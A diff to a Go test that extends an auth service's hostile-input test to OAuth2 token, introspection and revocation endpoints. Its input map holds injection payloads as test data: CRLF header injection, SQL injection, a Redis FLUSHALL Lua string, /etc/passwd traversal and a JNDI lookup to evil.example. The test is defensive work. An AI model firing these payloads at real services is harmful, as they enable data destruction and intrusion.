@@ -213,7 +213,7 @@ func other(c byte) byte {
 func TestHostileInputs(t *testing.T) {
 	t.Parallel()
 	f := usual(t)
-	s := f.login(0)
+	s, client := f.login(0), f.service("hostile")
 	nasty := map[string]string{
 		"CRLF": "\r\n", "CRLF within": "a\r\nX-Evil: 1", "NUL": "\x00", "NUL within": "a\x00b", "object": "{}", "list": "[]", "not UTF-8": "\xff\xfe",
 		"SQL": "' OR '1'='1", "Lua": "'..redis.call('FLUSHALL')..'", "traversal": "../../../etc/passwd", "template": "${jndi:ldap://evil.example}",
@@ -253,6 +253,18 @@ func TestHostileInputs(t *testing.T) {
 			{"request id", "GET", "/auth/verify", []option{header("X-Request-Id", strings.Map(printable, v))}, 401},
 			{"cookie", "POST", "/auth/refresh", []option{cookie(strings.Map(printable, v))}, 401},
 			{"device", "POST", "/auth/token", []option{known(strings.Map(printable, v)), form("username", alice, "password", "wrong")}, 401},
+			{"grant_type at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", v)}, 400},
+			{"scope at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", "client_credentials", "scope", v)}, 400},
+			{"refresh_token at /oauth2", "POST", "/oauth2/token", []option{client.basic(), form("grant_type", "refresh_token", "refresh_token", v)}, 400},
+			{"client_id", "POST", "/oauth2/token", []option{form("grant_type", "client_credentials", "client_id", v, "client_secret", v)}, 401},
+			{"client_id of ours", "POST", "/oauth2/token", []option{registered{"lkc_" + v, v}.basic(), form("grant_type", "client_credentials")}, 401},
+			{"client_secret", "POST", "/oauth2/token", []option{registered{client.id, v}.post("grant_type", "client_credentials")}, 401},
+			{"Authorization", "POST", "/oauth2/token", []option{header("Authorization", "Basic "+strings.Map(printable, v)), form("grant_type", "client_credentials")}, 401},
+			{"client_id at login", "POST", "/auth/token", []option{form("username", alice, "password", "wrong", "client_id", v, "client_secret", v)}, 401},
+			{"token at introspection", "POST", "/oauth2/introspect", []option{client.basic(), form("token", v)}, 200},
+			{"token_type_hint at introspection", "POST", "/oauth2/introspect", []option{client.basic(), form("token", s.access, "token_type_hint", v)}, 200},
+			{"token at revocation", "POST", "/oauth2/revoke", []option{client.basic(), form("token", v)}, 200},
+			{"token_type_hint at revocation", "POST", "/oauth2/revoke", []option{client.basic(), form("token", "garbage", "token_type_hint", v)}, 200},
 			{"X-Forwarded-For", "POST", "/auth/token", []option{header("X-Forwarded-For", strings.Map(printable, v)), form("username", alice, "password", "wrong")}, 401},
 		} {
 			a, err := f.try(0, c.method, c.path, c.options...)
